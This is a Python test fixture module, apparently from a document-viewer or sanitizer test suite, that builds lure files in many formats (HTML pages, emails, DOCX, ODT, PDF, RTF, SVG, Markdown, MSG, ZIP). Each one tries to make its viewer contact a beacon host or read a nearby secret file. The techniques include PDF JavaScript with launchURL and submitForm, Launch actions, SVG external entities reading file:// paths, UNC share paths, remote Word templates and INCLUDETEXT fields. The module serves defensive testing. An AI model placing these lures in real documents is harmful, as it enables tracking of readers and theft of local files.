"""Documents that try to fetch something: from an address, and from a file beside us.

``address`` is "host:port" of a beacon that counts who calls; ``secret`` is a file that no document
has any business with. Every document here can be read, so that nothing is refused unseen.
"""

from hostile import offices, pdfs
from readers import make_msg as msg
from readers import office_files as office
from readers.make_mail import enclosed, mail, multi, part, zipped

HTML = "text/html; charset=utf-8"
WORDS = "Geachte raad"


def places(address, secret):
    """One and the same thing, named in every way."""
    return [
        f"http://{address}/a.png",
        f"https://{address}/a.png",
        f"//{address}/a.png",
        f"\\\\{address.partition(':')[0]}\\deling\\a.png",
        "http://spion.invalid/a.png",
        f"file://{secret}",
        str(secret),
        f"../{secret.parent.name}/{secret.name}",
        f"ftp://{address}/a.png",
    ]


def _markup(place):
    """Every element of HTML that fetches."""
    return (
        f'<img src="{place}"><img srcset="{place} 2x"><link rel=stylesheet href="{place}">'
        f'<link rel=prefetch href="{place}"><style>@import url({place});'
        f"@font-face{{font-family:x;src:url({place})}}body{{background:url({place})}}</style>"
        f'<script src="{place}"></script><iframe src="{place}"></iframe>'
        f'<object data="{place}"></object><embed src="{place}"><video src="{place}"></video>'
        f'<audio src="{place}"></audio><input type=image src="{place}"><table background="{place}">'
        f'<tr><td background="{place}" style="background-image:url({place})">cel</td></tr></table>'
        f'<svg><image href="{place}" xlink:href="{place}"/></svg><form action="{place}"></form>'
        f'<p style="list-style-image:url({place})"><a href="{place}" ping="{place}">verder</a></p>'
    )


def page(address, secret):
    """A web page full of them."""
    found = places(address, secret)
    head = f'<head><base href="http://{address}/"><meta http-equiv=refresh content="0;{found[0]}">'
    body = "".join(map(_markup, found))
    return f"<!DOCTYPE html><html>{head}</head><body><p>{WORDS}</p>{body}</body></html>"


def _docx(address, secret):
    found = places(address, secret)
    links = [(f"rId{20 + n}", "image", place, 1) for n, place in enumerate(found)]
    pictures = "".join(
        office.para(office.drawing(key).replace("r:embed", "r:link")) for key, *_ in links
    )
    fields = "".join(
        f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"{place}\"'/></w:p>" for place in found
    )
    return office.docx(
        office.para(WORDS) + pictures + fields,
        *links,
        ("rId50", "attachedTemplate", found[0], 1),
        ("rId51", "header", found[0], 1),
        ("rId52", "oleObject", f"file://{secret}", 1),
        section='<w:headerReference r:id="rId51"/>',
    )


def _odf_body(address, secret):
    frames = "".join(
        f'<draw:frame><draw:image xlink:href="{place}"/></draw:frame>'
        f'<draw:frame><draw:object xlink:href="{place}"/></draw:frame>'
        for place in places(address, secret)
    )
    section = f'<text:section><text:section-source xlink:href="file://{secret}"/></text:section>'
    return office.text(WORDS + frames) + section


def _pdf(address, secret):
    at, file = f"http://{address}/a".encode(), str(secret).encode()
    catalog = b"/OpenAction<</S/URI/URI(%s)>>/Names<</JavaScript<</Names[(a)<</S/JavaScript" % at
    catalog += b"/JS(app.launchURL\\('%s'\\);this.submitForm\\('%s'\\))>>]>>>>" % (at, at)
    outside = b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8"
    outside += b"/ColorSpace/DeviceGray/F"
    annotations = b"".join(
        b"<</Type/Annot/Subtype/%s/Rect[70 690 300 720]%s>>" % pair
        for pair in (
            (b"Link", b"/A<</S/URI/URI(%s)>>" % at),
            (b"Link", b"/A<</S/Launch/F(%s)>>" % file),
            (b"Link", b"/A<</S/GoToR/F(%s)/D[0/Fit]>>" % file),
            (b"Link", b"/A<</S/ImportData/F(%s)>>" % file),
            (b"Movie", b"/Movie<</F(%s)/Poster true>>/A true" % file),
            (b"Screen", b"/A<</S/Rendition/R<</C<</D<</F(%s)>>>>>>>>" % file),
        )
    )
    return pdfs.pdf(
        pdfs.SHOW + b" /I Do /J Do /K Do",
        pdfs.stream(b"", outside + b"<</FS/URL/F(%s)>>" % at),
        pdfs.stream(b"", outside + b"(%s)" % file),
        pdfs.stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>" % file),
        catalog=catalog,
        page=b"/Annots[%s]/AA<</O<</S/Launch/F(%s)>>>>" % (annotations, file),
        resources=b"/XObject<</I 6 0 R/J 7 0 R/K 8 0 R>>",
    )


def _rtf(address, secret):
    fields = "".join(
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{place}" \\d}}{{\fldrslt x}}}}'
        for place in (found.replace("\\", "/") for found in places(address, secret))
    )
    return office.rtf(rf"{{\*\template http://{address}/x.dotm}}{WORDS} {fields}")


def _svg(address, secret):
    images = "".join(f'<image href="{place}"/>' for place in places(address, secret))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><text>{WORDS}</text>{images}</svg>'
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % y SYSTEM '
    return f'<?xml version="1.0"?>{entity}"http://{address}/y">]>{svg}'.encode()


def _markdown(address, secret):
    images = "\n\n".join(f"![x]({place}) <{place}>" for place in places(address, secret))
    return f"# {WORDS}\n\n{images}\n\n<img src='file://{secret}'>".encode()


def lures(address, secret):
    """Name to bytes."""
    web = page(address, secret)
    mailed = mail(
        multi("related", part(web, HTML), enclosed("ook.html", web.encode())),
        Disposition_Notification_To=f"spion@{address.partition(':')[0]}",
        List_Unsubscribe=f"<http://{address}/>",
    )
    body = _odf_body(address, secret)
    return {
        "lok.eml": mailed,
        "van buiten.eml": mail(
            part("", f'message/external-body; access-type=URL; URL="http://{address}/"')
        ),
        "lok.html": web.encode(),
        "lok.docx": _docx(address, secret),
        "lok.odt": office.odt(body),
        "lok.fodt": office.fodt(body),
        "lok.pdf": _pdf(address, secret),
        "lok.rtf": _rtf(address, secret),
        "lok.svg": _svg(address, secret),
        "lok.md": _markdown(address, secret),
        "lok.txt": f"{WORDS}\n\n{chr(10).join(places(address, secret))}".encode(),
        "lok.msg": msg.compound(msg.letter(msg.binary(0x1013, web.encode()))),
        "lok.zip": zipped(("in zip.html", web.replace(WORDS, "Geachte griffie"))),
        "met veld.docx": offices.field(f'INCLUDETEXT "{secret}"')(),
    }
